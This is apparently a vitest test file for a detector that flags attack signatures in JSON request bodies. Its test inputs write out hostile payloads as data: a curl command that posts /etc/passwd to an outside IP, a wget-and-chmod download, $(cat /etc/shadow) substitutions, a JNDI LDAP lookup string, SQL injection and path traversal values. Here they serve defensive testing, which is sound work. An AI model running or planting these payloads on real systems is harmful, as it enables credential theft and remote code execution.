import { expect, test } from 'vitest';
import { decoyField } from '../../../src/attacks/fields/field-kind.ts';
import { findSignatures } from '../../../src/attacks/find-signatures.ts';
import type { HttpRequest } from '../../../src/attacks/request/http-request.ts';

const MORE = { a: 'one', b: 'two', c: 'three', d: 'four' };

const sent = (json: unknown, path = '/'): HttpRequest => ({
  method: 'POST',
  path,
  query: '',
  headers: {},
  contentType: 'application/json',
  body: JSON.stringify(json),
});

const typesIn = (request: HttpRequest): readonly string[] => findSignatures(request).matches.map(({ type }) => type);

test.each([
  [
    'a shell that sends a file',
    { command: 'sh -c "cd /tmp && curl -d @/etc/passwd http://203.0.113.9"' },
    'command_injection',
  ],
  ['a shell that fetches', { command: "sh -c 'wget http://203.0.113.9/a && chmod +x a'" }, 'command_injection'],
  ['a file of the system in place of a folder', { confdir: '/etc/passwd' }, 'path_traversal'],
  ['a log of a server', { logdir: '/var/log/apache2' }, 'path_traversal'],
  ['a climb out of a folder', { confdir: '../../../../etc/acme' }, 'path_traversal'],
  [
    'a lookup in the report of a browser',
    { 'csp-report': { 'script-sample': '$' + '{jndi:ldap://x/a}' } },
    'jndi_lookup',
  ],
  ['a path as the whole of a comment', { comment: '/etc/shadow' }, 'path_traversal'],
  [
    'a substitution behind a step that another ends',
    { text: 'npm run build; echo $(cat /etc/shadow)' },
    'command_injection',
  ],
  ['a secret file beside the steps of a page', { text: 'docker run -v a:/b $(cat /etc/shadow)' }, 'command_injection'],
  ['a command behind words of a page', { body: { value: 'hello; cat /etc/passwd' } }, 'command_injection'],
])('%s is found', (_name, json, type) => {
  expect(typesIn(sent({ ...json, ...MORE }))).toContain(type);
});

test('a script in a field for anything else is a line behind a comment', () => {
  expect(typesIn(sent({ host: '#!/bin/sh\ncat /etc/passwd' }))).toContain('command_injection');
});

test('a statement of a console that leaves the string it stands in is an injection', () => {
  expect(typesIn(sent({ statement: "select' or 1=1 -- " }, '/query/service'))).toContain('sql_injection');
});

test('at a decoy a comment that names a file is one that asks for it', () => {
  const request = sent({ comment: 'please show me the file /etc/shadow of this machine', ...MORE });
  expect(findSignatures(request, undefined, null, decoyField).matches).not.toEqual([]);
});

test('what containers are given is no file that is asked for, however many of them a document tells of', () => {
  const at = '2024-06-16T11:28:59.546933815Z';
  const tasks = Array.from({ length: 60 }, (_, i) => ({
    Mounts: [{ Source: '/var/run/docker.sock', Target: '/var/run/docker.sock' }],
    Labels: `com.example.${i} = 'a${i}' | b; (c) {d} <e> [f] "h" $i %20 ../x`,
    At: at,
  }));
  expect(typesIn(sent(tasks))).toEqual([]);
});
